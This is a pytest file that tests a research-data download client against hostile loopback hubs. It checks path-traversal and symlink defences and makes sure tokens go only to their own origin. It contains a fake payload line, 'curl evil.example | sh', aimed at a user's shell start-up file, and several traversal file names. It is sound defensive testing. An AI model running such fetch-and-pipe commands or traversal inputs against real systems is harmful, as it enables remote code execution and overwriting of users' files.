"""What the researcher's client takes from a hub's answers, and where it sends its token.

A hub (compromised, or impersonated by someone between it and the laptop on plain http) must not be able to make
`strongroom download` or a recursive ``fs.get`` write anywhere but the folder the user named: every name it sends
(a stored path, a file id, a project slug, a dataset id) is cleaned or replaced before it becomes a local file
name, every target resolves inside that folder, and nothing is written through a symbolic link found there
(``archive.transfer``, ``fs``). And a token goes only to the address it came with: the saved login's token never
to another host named by STRONGROOM_URL or ``url=``, and no token over plain http to another machine
(``hubclient``).

The hostile hubs here are real HTTP servers on loopback answering crafted JSON: they are the attacker, not a
stand-in for our code; the real hub (``test_fsspec``'s world) shows the ordinary paths still work.
"""

from __future__ import annotations

import hashlib
import json
import os
import subprocess
import sys
import threading
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import unquote, urlsplit

import pytest
from typer.testing import CliRunner

from strongroom.archive import c4gh
from strongroom.archive.cli import app as archive_cli
from strongroom.client import app as client_cli
from strongroom.fs import StrongroomFileSystem
from strongroom.hubclient import HubClient, NotLoggedIn, save_login
from test_fsspec import world  # noqa: F401 - world is the fixture (a real hub with a released dataset)

PASSPHRASE = "a passphrase for the test key"
ORIGINAL = "# the user's own shell start-up file\n"


# -- a hostile hub -------------------------------------------------------------------------------
class Hostile:
    """A hub that answers what ``answer(path)`` returns (a JSON-able value, ``bytes`` for a body, None for 404)
    and records each request's path and Authorization header."""

    def __init__(self, answer: Callable[[str], Any]) -> None:
        self.answer, self.seen = answer, []

    def handler(self) -> type[BaseHTTPRequestHandler]:
        hostile = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args: Any) -> None:
                pass

            def do_GET(self) -> None:
                hostile.seen.append((self.path, self.headers.get("authorization")))
                found = hostile.answer(unquote(urlsplit(self.path).path))
                if isinstance(found, bytes):
                    body, kind = found, "application/octet-stream"
                elif found is None:
                    self.send_response(404)
                    body, kind = b'{"detail": "no such thing"}', "application/problem+json"
                else:
                    body, kind = json.dumps(found).encode(), "application/json"
                if found is not None:
                    self.send_response(200)
                self.send_header("content-type", kind)
                self.send_header("content-length", str(len(body)))
                self.send_header("etag", '"e1"')
                self.end_headers()
                self.wfile.write(body)

        return Handler

    @contextmanager
    def serving(self) -> Iterator[str]:
        server = ThreadingHTTPServer(("127.0.0.1", 0), self.handler())
        thread = threading.Thread(target=server.serve_forever, daemon=True)
        thread.start()
        try:
            yield f"http://127.0.0.1:{server.server_port}"
        finally:
            server.shutdown()
            server.server_close()
            thread.join(10)


def dataset_hub(files: list[dict[str, Any]], payloads: dict[str, bytes], public_key: bytes) -> Hostile:
    """SRD-EVIL v1 listing ``files`` (each its id and path); a file's content is its payload encrypted to
    ``public_key``. Any other address gets the one file when there is one (an id sent unescaped, normalised by
    the client's HTTP library, arrives elsewhere: the attacker answers there too)."""
    cipher = {fid: b"".join(bytes(x) for x in c4gh.encrypt_stream([data], public_key))
              for fid, data in payloads.items()}
    records = [{**f, "plaintext_size": len(payloads[f["id"]]),
                "plaintext_sha256": hashlib.sha256(payloads[f["id"]]).hexdigest()} for f in files]
    by_id = {r["id"]: r for r in records}

    def answer(path: str) -> Any:
        if path == "/api/v1/datasets/SRD-EVIL":
            return {"id": "SRD-EVIL", "versions": [{"number": 1, "state": "released"}]}
        if path == "/api/v1/datasets/SRD-EVIL/versions/1/files":
            return {"files": records, "next_after": None}
        content = path.endswith("/content")
        rest = path.removeprefix("/api/v1/files/").removesuffix("/content")
        # any other address (an id that climbed out of /files/ once the client normalised it) is the one file
        record = by_id.get(rest) or (records[0] if len(records) == 1 else None)
        if record is None:
            return None
        return cipher[record["id"]] if content else record

    return Hostile(answer)


def catcher() -> Hostile:
    """A server that only records who sent which token (it answers every listing empty)."""
    return Hostile(lambda path: [])


def files_under(root: Path) -> dict[str, bytes]:
    return {str(p.relative_to(root)): p.read_bytes() for p in sorted(root.rglob("*"))
            if p.is_file() and not p.is_symlink()}


@pytest.fixture
def laptop(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> dict[str, Any]:
    """A researcher's machine: a key pair (passphrase-protected), a home with a start-up file, a download folder,
    and no login saved."""
    keypair = c4gh.generate_keypair()
    secret = tmp_path / "me.sec"
    c4gh.write_private_key(secret, keypair, PASSPHRASE)
    home = tmp_path / "home"
    home.mkdir()
    (home / ".bashrc").write_text(ORIGINAL)
    out = tmp_path / "downloads"
    out.mkdir()
    for name in ("STRONGROOM_URL", "STRONGROOM_TOKEN", "STRONGROOM_ALLOW_HTTP"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("STRONGROOM_CLI_CONFIG", str(tmp_path / "cli.json"))
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
    monkeypatch.setenv("STRONGROOM_KEY_PASSPHRASE", PASSPHRASE)
    monkeypatch.setenv("COLUMNS", "250")
    StrongroomFileSystem.clear_instance_cache()
    return {"root": tmp_path, "keypair": keypair, "secret": secret, "home": home, "out": out}


def download(url: str, laptop: dict[str, Any], *ids: str) -> Any:
    """`strongroom download IDS --out <downloads> --decrypt` with a token for ``url`` in the environment."""
    return CliRunner().invoke(archive_cli, ["download", *ids, "--out", str(laptop["out"]), "--decrypt",
                                            "--secret-key", str(laptop["secret"])],
                              env={"STRONGROOM_URL": url, "STRONGROOM_TOKEN": "sr_abcdefabcdef_secret"})


def flat(text: str) -> str:
    return " ".join(text.split())


# -- downloads: every name the hub sends is cleaned -----------------------------------------------
def test_download_never_writes_where_the_hubs_file_id_points(laptop):
    """The auditor's case, as a user runs it: a file whose stored path cleans down to nothing and whose id is an
    absolute path to the user's start-up file. The file lands in the download folder under a name made here."""
    victim = laptop["home"] / ".bashrc"
    payload = b"curl evil.example | sh\n"
    hostile = dataset_hub([{"id": str(victim), "path": ".."}], {str(victim): payload}, laptop["keypair"].public)
    outside_before = files_under(laptop["home"])
    with hostile.serving() as url:
        env = {**os.environ, "STRONGROOM_URL": url, "STRONGROOM_TOKEN": "sr_abcdefabcdef_secret",
               "STRONGROOM_VAR_DIR": str(laptop["root"] / "var"), "HOME": str(laptop["root"])}
        done = subprocess.run([sys.executable, "-m", "strongroom.cli", "download", "SRD-EVIL", "--out",
                               str(laptop["out"]), "--decrypt", "--secret-key", str(laptop["secret"])],
                              env=env, capture_output=True, text=True, timeout=120, cwd=laptop["root"])
    assert done.returncode == 0, done.stdout + done.stderr
    assert victim.read_text() == ORIGINAL and files_under(laptop["home"]) == outside_before
    name = "unnamed-" + hashlib.sha256(str(victim).encode()).hexdigest()[:16]
    assert files_under(laptop["out"]) == {name: payload, name + ".c4gh": files_under(laptop["out"])[name + ".c4gh"]}


@pytest.mark.parametrize(("file_id", "stored", "lands_as"), [
    ("../home/.bashrc", ".", "unnamed-"),  # an id that climbs out to the start-up file, a path of nothing
    ("{victim}", "", "unnamed-"),  # an absolute id, an empty path
    ("{victim}", "./..//. ./", "unnamed-"),  # a path of dots and separators only
    ("..", "..", "unnamed-"),
    ("SRF-7K2M9QX4TD", "..", "SRF-7K2M9QX4TD"),  # a plain accession is a name as it is
    ("SRF-7K2M9QX4TD", "../../home/.bashrc", "home/.bashrc"),  # the stored path, cleaned
    ("SRF-7K2M9QX4TD", "{victim}", "{victim_relative}"),  # an absolute path: kept below the folder
    ("SRF-7K2M9QX4TD", "..\\..\\home\\.bashrc", "home/.bashrc"),  # Windows separators count too
])
def test_download_names_come_from_cleaned_paths_or_plain_accessions(laptop, file_id, stored, lands_as):
    victim = laptop["home"] / ".bashrc"
    file_id, stored = file_id.format(victim=victim), stored.format(victim=victim)
    lands_as = lands_as.format(victim_relative=str(victim).lstrip("/"))
    if lands_as == "unnamed-":
        lands_as += hashlib.sha256(file_id.encode()).hexdigest()[:16]
    payload = b"the research data\n"
    hostile = dataset_hub([{"id": file_id, "path": stored}], {file_id: payload}, laptop["keypair"].public)
    with hostile.serving() as url:
        result = download(url, laptop, "SRD-EVIL")
    assert result.exit_code == 0, result.output
    assert victim.read_text() == ORIGINAL
    assert files_under(laptop["root"] / "home") == {".bashrc": ORIGINAL.encode()}
    landed = files_under(laptop["out"])
    assert landed[lands_as] == payload and set(landed) == {lands_as, lands_as + ".c4gh"}, landed


def test_download_refuses_a_symbolic_link_on_the_way_out(laptop, tmp_path):
    """A folder in the download folder that is a link to elsewhere: a file the hub places below it would land
    outside; it is refused, and nothing (not even a folder) is made there."""
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (laptop["out"] / "linked").symlink_to(elsewhere)
    hostile = dataset_hub([{"id": "SRF-7K2M9QX4TD", "path": "linked/sub/notes.txt"}],
                          {"SRF-7K2M9QX4TD": b"data\n"}, laptop["keypair"].public)
    with hostile.serving() as url:
        result = download(url, laptop, "SRD-EVIL")
    assert result.exit_code == 1 and "leads outside" in flat(result.output), result.output
    assert list(elsewhere.iterdir()) == []


@pytest.mark.parametrize("planted", ["notes.txt.c4gh.part", "notes.txt.c4gh.etag", "notes.txt.decrypting"])
def test_download_never_writes_through_a_symbolic_link_in_the_folder(laptop, planted):
    """A link planted where the download keeps its partial file, its resume tag or its decrypting plaintext
    would carry the bytes to whatever it points at: refused, the linked file untouched."""
    victim = laptop["home"] / ".bashrc"
    (laptop["out"] / planted).symlink_to(victim)
    hostile = dataset_hub([{"id": "SRF-7K2M9QX4TD", "path": "notes.txt"}], {"SRF-7K2M9QX4TD": b"data\n"},
                          laptop["keypair"].public)
    with hostile.serving() as url:
        result = download(url, laptop, "SRD-EVIL")
    assert result.exit_code == 1 and "symbolic link" in flat(result.output), result.output
    assert victim.read_text() == ORIGINAL


# -- fsspec: names from the hub's listings --------------------------------------------------------
def test_fs_get_keeps_every_hub_name_inside_the_destination(laptop, tmp_path):
    """A recursive ``get`` of everything: project slugs, dataset ids and file paths that climb out are left out
    or cleaned; what is written is inside the destination, and a link planted there is not written through."""
    escaped = tmp_path / "escaped.txt"
    record = {"id": "SRF-7K2M9QX4TD", "path": "../../../escaped.txt", "plaintext_size": 5,
              "plaintext_sha256": hashlib.sha256(b"data\n").hexdigest(), "created_at": "2026-01-01"}
    listed = {"id": "SRF-0000000001", "path": "notes.txt", "plaintext_size": 5,
              "plaintext_sha256": hashlib.sha256(b"data\n").hexdigest(), "created_at": "2026-01-01"}

    def answer(path: str) -> Any:
        if path == "/api/v1/projects":
            return [{"slug": s, "name": s} for s in ("..", "../../climb", "good")]
        if path == "/api/v1/projects/good":
            return {"slug": "good", "name": "good"}
        if path.endswith("/datasets"):
            return [{"id": "../../dataset", "title": "t", "versions": [{"number": 1, "state": "released"}],
                     "owner_project": "good"}]
        if path.endswith("/files"):
            return [record, listed]
        if path.endswith("/plaintext"):
            return b"data\n"
        return None

    dest = tmp_path / "dest"
    with Hostile(answer).serving() as url:
        fs = StrongroomFileSystem(url=url, token="sr_abcdefabcdef_secret", via="plaintext", skip_instance_cache=True)
        assert fs.ls("", detail=False) == ["good"]
        assert fs.ls("good", detail=False) == ["good/files"]
        fs.get("", str(dest), recursive=True)
        assert files_under(dest) == {"good/files/escaped.txt": b"data\n", "good/files/notes.txt": b"data\n"}
        assert not escaped.exists()
        victim = laptop["home"] / ".bashrc"
        (dest / "good" / "files" / "notes.txt").unlink()
        (dest / "good" / "files" / "notes.txt").symlink_to(victim)
        with pytest.raises(PermissionError):
            fs.get("good/files/notes.txt", str(dest / "good" / "files" / "notes.txt"))
    assert victim.read_text() == ORIGINAL


# -- tokens: only to the address they came with ------------------------------------------------------
def test_the_saved_token_never_goes_to_another_address_named_by_strongroom_url(laptop):
    save_login("https://hub-a.example.org", "sr_aaaaaaaaaaaa_hubAsecret")
    other = catcher()
    with other.serving() as url:
        result = CliRunner().invoke(client_cli, ["projects", "list"], env={"STRONGROOM_URL": url})
    assert result.exit_code == 2, result.output
    assert f"not logged in to {url}: strongroom login --url {url}" in flat(result.output)
    assert other.seen == []


def test_the_saved_token_never_goes_to_another_port_of_the_same_host(laptop):
    mine, other = catcher(), catcher()
    with mine.serving() as url, other.serving() as other_url:
        save_login(url, "sr_aaaaaaaaaaaa_mine")
        refused = CliRunner().invoke(client_cli, ["projects", "list"], env={"STRONGROOM_URL": other_url})
        # the same address spelt otherwise (upper case, a trailing slash) is the same origin: it gets the token
        same = CliRunner().invoke(client_cli, ["projects", "list"],
                                  env={"STRONGROOM_URL": url.replace("http://", "HTTP://") + "/"})
    assert refused.exit_code == 2 and f"not logged in to {other_url}" in flat(refused.output), refused.output
    assert other.seen == []
    assert same.exit_code == 0, same.output
    assert [auth for _, auth in mine.seen] == ["Bearer sr_aaaaaaaaaaaa_mine"]


def test_fs_sends_the_saved_token_only_to_its_own_address(laptop):
    save_login("https://hub-a.example.org", "sr_aaaaaaaaaaaa_hubAsecret")
    other = catcher()
    with other.serving() as url:
        with pytest.raises(NotLoggedIn, match=f"not logged in to {url}"):
            StrongroomFileSystem(url=url, via="plaintext", skip_instance_cache=True)
        # a token of its own for that address is sent there
        fs = StrongroomFileSystem(url=url, token="sr_bbbbbbbbbbbb_own", via="plaintext", skip_instance_cache=True)
        assert fs.ls("", detail=False) == []
    assert [auth for _, auth in other.seen] == ["Bearer sr_bbbbbbbbbbbb_own"]


def test_no_token_over_plain_http_to_another_machine(laptop):
    """`strongroom login` to a plain-http address elsewhere writes nothing down and sends nothing; a command
    with such an address in the environment refuses before any request."""
    config = Path(os.environ["STRONGROOM_CLI_CONFIG"])
    login = CliRunner().invoke(client_cli, ["login", "--url", "http://hub.invalid", "--token", "sr_cccccccccccc_x"])
    assert login.exit_code == 2 and "refusing to send your token over plain http" in flat(login.output), login.output
    assert not config.exists()
    listed = CliRunner().invoke(client_cli, ["projects", "list"],
                                env={"STRONGROOM_URL": "http://hub.invalid", "STRONGROOM_TOKEN": "sr_cccccccccccc_x"})
    assert listed.exit_code == 2 and "STRONGROOM_ALLOW_HTTP=1" in flat(listed.output), listed.output
    with pytest.raises(NotLoggedIn, match="plain http"):
        StrongroomFileSystem(url="http://hub.invalid", token="sr_cccccccccccc_x", via="plaintext",
                             skip_instance_cache=True)


def test_plain_http_stays_open_to_loopback_and_to_whoever_allows_it(laptop, monkeypatch):
    for url in ("http://127.0.0.1:8000", "http://localhost:8000", "http://[::1]:8000", "https://hub.example.org"):
        assert HubClient(url, "sr_dddddddddddd_x").url == url
    monkeypatch.setenv("STRONGROOM_URL", "http://hub.invalid")
    monkeypatch.setenv("STRONGROOM_TOKEN", "sr_dddddddddddd_x")
    monkeypatch.setenv("STRONGROOM_ALLOW_HTTP", "1")  # a private network, on purpose
    assert HubClient.from_config().url == "http://hub.invalid"


# -- the real hub: the ordinary paths still work ---------------------------------------------------------
def test_real_hub_download_lands_under_the_stored_paths(world, tmp_path, monkeypatch):  # noqa: F811
    monkeypatch.setenv("STRONGROOM_KEY_PASSPHRASE", "")
    out = tmp_path / "downloads"
    result = CliRunner().invoke(archive_cli, ["download", world["dataset"], "--out", str(out), "--decrypt",
                                              "--secret-key", str(world["key"])], input="\n",
                                env={"COLUMNS": "250"})
    assert result.exit_code == 0, result.output
    listed = world["http"].get(f"/api/v1/datasets/{world['dataset']}/versions/1/files").json()["files"]
    assert listed
    for f in listed:
        plain = out / f["path"]
        assert hashlib.sha256(plain.read_bytes()).hexdigest() == f["plaintext_sha256"]
        assert plain.resolve().is_relative_to(out.resolve())


def test_real_hub_login_is_used_for_its_own_address_only(world, tmp_path, monkeypatch):  # noqa: F811
    monkeypatch.setenv("STRONGROOM_CLI_CONFIG", str(tmp_path / "saved.json"))
    monkeypatch.delenv("STRONGROOM_URL")
    monkeypatch.delenv("STRONGROOM_TOKEN")
    runner = CliRunner()
    login = runner.invoke(client_cli, ["login", "--url", world["url"], "--token", world["tokens"]["alice"]],
                          env={"COLUMNS": "250"})
    assert login.exit_code == 0 and "Alice" in login.output, login.output
    assert "lung" in runner.invoke(client_cli, ["projects", "list"], env={"COLUMNS": "250"}).output
    other = catcher()
    with other.serving() as url:
        refused = runner.invoke(client_cli, ["whoami"], env={"COLUMNS": "250", "STRONGROOM_URL": url})
        with pytest.raises(NotLoggedIn):
            StrongroomFileSystem(url=url, skip_instance_cache=True)
    assert refused.exit_code == 2 and f"strongroom login --url {url}" in flat(refused.output), refused.output
    assert other.seen == []
    fs = StrongroomFileSystem(skip_instance_cache=True)  # the saved login, to its own hub
    assert "lung" in fs.ls("", detail=False)
